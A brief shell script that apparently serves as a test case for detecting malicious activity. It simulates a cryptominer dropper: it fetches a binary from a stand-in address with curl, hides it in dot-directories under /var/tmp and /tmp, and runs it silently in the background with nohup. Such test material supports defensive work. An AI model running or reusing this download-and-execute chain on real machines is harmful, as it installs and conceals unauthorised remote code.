#!/bin/sh
. /opt/case/case.sh

mkdir -p /var/tmp/.kit && cd /var/tmp/.kit
curl -s http://203.0.113.10/programs/marker -o .x
chmod +x .x && printf '#!/bin/bash\n./.x >/dev/null 2>&1\n' >go && chmod +x go
tar -czf - .x go | (mkdir -p /tmp/.xmr && cd /tmp/.xmr && tar -xzf -)
cd /tmp/.xmr && nohup ./go >/dev/null 2>&1
test -e /tmp/reached
took_place
